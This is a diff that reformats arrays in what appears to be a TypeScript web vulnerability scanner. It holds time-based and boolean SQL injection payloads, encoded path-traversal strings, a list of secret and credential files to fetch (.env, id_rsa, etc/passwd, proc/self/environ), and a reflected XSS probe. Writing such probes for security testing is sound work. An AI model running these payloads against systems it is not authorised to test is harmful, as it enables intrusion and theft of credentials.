@@ -6,7 +6,14 @@ import type { Answer, World } from './world.ts'
 /** Longer than any answer takes, and asked for twice before it is believed. */
 const SLEEP_S = 2
 const sleep = `(select 1 from pg_sleep(${SLEEP_S}))`
-const SLEEPS = [`x' or ${sleep} is null or 'a'='`, `x') or ${sleep} is null or ('a'='`, `x'; select pg_sleep(${SLEEP_S})--`, sleep, `1; select pg_sleep(${SLEEP_S})--`, `case when ${sleep} = 1 then 1 else 2 end`] // prettier-ignore
+const SLEEPS = [
+  `x' or ${sleep} is null or 'a'='`,
+  `x') or ${sleep} is null or ('a'='`,
+  `x'; select pg_sleep(${SLEEP_S})--`,
+  sleep,
+  `1; select pg_sleep(${SLEEP_S})--`,
+  `case when ${sleep} = 1 then 1 else 2 end`,
+]
 /** What is true, and the same that is not: where what is sent is only a text, both mean as much. */
 const PAIRS = [
   [`zz' or '1'='1`, `zz' or '1'='2`],
@@ -69,7 +76,34 @@ function textsOf({ input }: Call<any, any>): { name: string; many: boolean }[] {
 }
 
 /** What lies about on servers, and ways out of where files are served. */
-const FILES = ['.env', '.git/config', '.git/HEAD', '.data/postgres.password', '.npmrc', 'package.json', 'package-lock.json', 'apps/server/main.ts', 'dist/.vite/manifest.json', 'backup.zip', 'dump.sql', 'id_rsa', 'etc/passwd', 'proc/self/environ', 'server-status', 'actuator/env', 'phpinfo.php', 'wp-login.php', 'swagger.json', 'v2/api-docs', 'graphql', 'debug/pprof', 'console', 'admin', 'files', 'uploads'] // prettier-ignore
+const FILES = [
+  '.env',
+  '.git/config',
+  '.git/HEAD',
+  '.data/postgres.password',
+  '.npmrc',
+  'package.json',
+  'package-lock.json',
+  'apps/server/main.ts',
+  'dist/.vite/manifest.json',
+  'backup.zip',
+  'dump.sql',
+  'id_rsa',
+  'etc/passwd',
+  'proc/self/environ',
+  'server-status',
+  'actuator/env',
+  'phpinfo.php',
+  'wp-login.php',
+  'swagger.json',
+  'v2/api-docs',
+  'graphql',
+  'debug/pprof',
+  'console',
+  'admin',
+  'files',
+  'uploads',
+]
 const WAYS_UP = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..\\', '..%5c', '%252e%252e%252f', '....//', '..;/', '.%00./']
 const PLACES = ['/', '/dist/', '/dist/assets/', '/lbs/', '/lbs/docs/', '/lbs/basic/sysFile/download?fileName=', '/m/', '/my/', '/q/']
 export const addresses: readonly string[] = PLACES.flatMap((place) =>
@@ -91,6 +125,8 @@ const MARK = `"'><svg onload=alert(7)>`
 export async function reflectedAt(world: Pick<World, 'send'>, page: string): Promise<string[]> {
   const marked = encodeURIComponent(MARK)
   const tries = [`${page}?x=${marked}`, `${page}?lang=${marked}`, `${page}/${marked}`, `${page}${marked}`]
-  const found = await Promise.all(tries.map(async (address) => ((await world.send('GET', address, {})).text.includes(MARK) ? [`${address} is repeated`] : []))) // prettier-ignore
+  const found = await Promise.all(
+    tries.map(async (address) => ((await world.send('GET', address, {})).text.includes(MARK) ? [`${address} is repeated`] : [])),
+  )
   return found.flat()
 }
